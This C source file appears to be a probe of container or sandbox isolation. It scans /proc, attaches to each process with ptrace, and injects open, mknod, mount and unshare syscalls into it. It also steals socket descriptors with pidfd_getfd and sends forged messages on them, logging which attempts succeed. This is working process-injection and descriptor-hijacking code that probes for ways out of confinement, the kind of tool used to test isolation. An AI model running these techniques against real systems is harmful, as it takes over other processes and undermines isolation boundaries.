/* Looks at every process of its PID namespace, takes over what it can, and tries what only the node may do.

   watcher NODE_FILE FORGED...: for each process, and again when it has executed another program, one line

       seen pid=… comm=… exe=… seccomp=… nnp=… prm=… eff=… bnd=… root=… cwd=… cgroup=…
       took pid=… seize=… open=… device=… mount=… unshare=…
       forged pid=… sent=…

   Numbers behind an attempt are errno, 0 where it succeeded. root and cwd: whether NODE_FILE can be reached through the
   process's links. FORGED are messages, sent on every socket that can be taken from the process.  x86-64 only. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define SYSCALL_INSTRUCTION 0x050f

struct known { int pid; char start[32]; char exe[128]; };
static struct known table[4096];
static int count;

static void read_file(const char *path, char *buffer, size_t size)
{
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = file < 0 ? 0 : read(file, buffer, size - 1);
    buffer[length > 0 ? length : 0] = 0;
    if (file >= 0) close(file);
}

static void field(const char *text, const char *name, char *value)
{
    const char *found = strstr(text, name);
    strcpy(value, "-");
    if (found) sscanf(found + strlen(name), " %31s", value);
}

/* Run one system call in the stopped process; its registers are restored by the caller. */
static long call(int pid, struct user_regs_struct *saved, long number, long a, long b, long c, long d, long e)
{
    struct user_regs_struct regs = *saved;
    int status;
    errno = 0;
    long word = ptrace(PTRACE_PEEKTEXT, pid, saved->rip, 0);
    if (errno) return -errno;
    if (ptrace(PTRACE_POKETEXT, pid, saved->rip, (word & ~0xffffL) | SYSCALL_INSTRUCTION)) return -errno;
    regs.orig_rax = -1;
    regs.rax = number; regs.rdi = a; regs.rsi = b; regs.rdx = c; regs.r10 = d; regs.r8 = e;
    ptrace(PTRACE_SETREGS, pid, 0, &regs);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) return -ESRCH;
    ptrace(PTRACE_GETREGS, pid, 0, &regs);
    ptrace(PTRACE_POKETEXT, pid, saved->rip, word);
    return regs.rax;
}

static int failure(long result) { return result < 0 ? (int)-result : 0; }

static void take(int pid, const char *node_file)
{
    struct user_regs_struct regs, before;
    int status, opened = -1, device = -1, mounted = -1, unshared = -1;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
        printf("took pid=%d seize=%d\n", pid, errno);
        return;
    }
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) return;
    ptrace(PTRACE_GETREGS, pid, 0, &regs);
    before = regs;

    char text[512] = "";
    char *name = text + 0, *node = text + 256, *type = text + 400, *place = text + 440;
    snprintf(name, 64, "/dev/shm/disk-%d", pid);
    strcpy(node, node_file);
    strcpy(type, "tmpfs");
    strcpy(place, "/tmp");
    unsigned long at = (regs.rsp - 4096) & ~15UL;
    struct iovec local = {text, sizeof text}, remote = {(void *)at, sizeof text};
    if (process_vm_writev(pid, &local, 1, &remote, 1, 0) == sizeof text) {
        opened = failure(call(pid, &regs, SYS_open, at + 256, O_RDONLY, 0, 0, 0));
        call(pid, &regs, SYS_mknod, at, S_IFBLK | 0600, makedev(7, 0), 0, 0);
        device = failure(call(pid, &regs, SYS_open, at, O_RDONLY, 0, 0, 0));
        mounted = failure(call(pid, &regs, SYS_mount, at + 400, at + 440, at + 400, 0, 0));
        if (!mounted) call(pid, &regs, SYS_umount2, at + 440, MNT_DETACH, 0, 0, 0); /* it may be the node's /tmp */
        call(pid, &regs, SYS_unlink, at, 0, 0, 0, 0);
        unshared = failure(call(pid, &regs, SYS_unshare, 0, 0, 0, 0, 0)); /* filtered, or harmless */
    }
    /* A call that was interrupted is begun anew, as the kernel would have done. */
    long code = -(long)before.rax;
    if ((long)before.orig_rax >= 0 && code >= 512 && code <= 516) {
        before.rip -= 2;
        before.rax = before.orig_rax;
        before.orig_rax = -1;
    }
    ptrace(PTRACE_SETREGS, pid, 0, &before);
    /* One that was killed in our hands is a zombie that its parent cannot reap before we have waited for it. */
    if (ptrace(PTRACE_DETACH, pid, 0, 0)) waitpid(pid, &status, __WALL);
    printf("took pid=%d seize=0 open=%d device=%d mount=%d unshare=%d\n", pid, opened, device, mounted, unshared);
}

/* Speak for the process, with descriptors of our own, on each socket that it has. */
static void forge(int pid, char **messages)
{
    int pidfd = syscall(SYS_pidfd_open, pid, 0), sent = 0;
    for (int number = 0; number < 16; number++) {
        int stolen = syscall(SYS_pidfd_getfd, pidfd, number, 0);
        if (stolen < 0) continue;
        for (char **message = messages; *message; message++) {
            struct iovec data = {*message, strlen(*message)};
            union { struct cmsghdr header; char space[CMSG_SPACE(2 * sizeof(int))]; } rights = {0};
            struct msghdr packet = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &rights, .msg_controllen = sizeof rights};
            rights.header = (struct cmsghdr){CMSG_LEN(2 * sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
            memcpy(CMSG_DATA(&rights.header), (int[]){pidfd, stolen}, 2 * sizeof(int));
            if (sendmsg(stolen, &packet, MSG_NOSIGNAL | MSG_DONTWAIT) > 0) sent++;
        }
        close(stolen);
    }
    close(pidfd);
    printf("forged pid=%d sent=%d\n", pid, sent);
}

static int is_new(int pid, const char *start, const char *exe)
{
    for (int i = 0; i < count; i++)
        if (table[i].pid == pid && !strcmp(table[i].start, start) && !strcmp(table[i].exe, exe)) return 0;
    if (count == 4096) count = 0;
    table[count].pid = pid;
    strcpy(table[count].start, start);
    snprintf(table[count++].exe, 128, "%s", exe);
    return 1;
}

static void look(int pid, const char *node_file, char **messages)
{
    char path[256], text[8192], exe[128] = "-", start[32], values[6][32], cgroup[4096];
    static const char *names[] = {"\nName:", "\nSeccomp:", "\nNoNewPrivs:", "\nCapPrm:", "\nCapEff:", "\nCapBnd:"};
    struct stat unused;
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    read_file(path, text, sizeof text);
    if (!strrchr(text, ')') || sscanf(strrchr(text, ')') + 1, " %*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %*u %*u %*d %*d %*d %*d %*d %*d %31s", start) != 1) return;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, exe, sizeof exe - 1);
    if (length > 0) exe[length] = 0;
    if (strchr(exe, ' ')) *strchr(exe, ' ') = 0;
    if (!is_new(pid, start, exe)) return;
    text[0] = '\n';
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    read_file(path, text + 1, sizeof text - 1);
    for (int i = 0; i < 6; i++) field(text, names[i], values[i]);
    snprintf(path, sizeof path, "/proc/%d/cgroup", pid);
    read_file(path, cgroup, sizeof cgroup);
    for (char *end = cgroup; *end; end++) if (*end == '\n') *end = ';';
    snprintf(path, sizeof path, "/proc/%d/root%s", pid, node_file);
    int root = stat(path, &unused) ? errno : 0;
    snprintf(path, sizeof path, "/proc/%d/cwd/../../../../../../../../..%s", pid, node_file);
    int cwd = stat(path, &unused) ? errno : 0;
    printf("seen pid=%d comm=%s exe=%s seccomp=%s nnp=%s prm=%s eff=%s bnd=%s root=%d cwd=%d cgroup=%s\n", pid,
           values[0], exe, values[1], values[2], values[3], values[4], values[5], root, cwd, cgroup);
    if (*messages) forge(pid, messages);
    else take(pid, node_file);
}

int main(int argc, char **argv)
{
    if (argc < 2) return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("up");
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid > 0 && pid != getpid()) look(pid, argv[1], argv + 2);
        }
        if (proc) closedir(proc);
    }
}
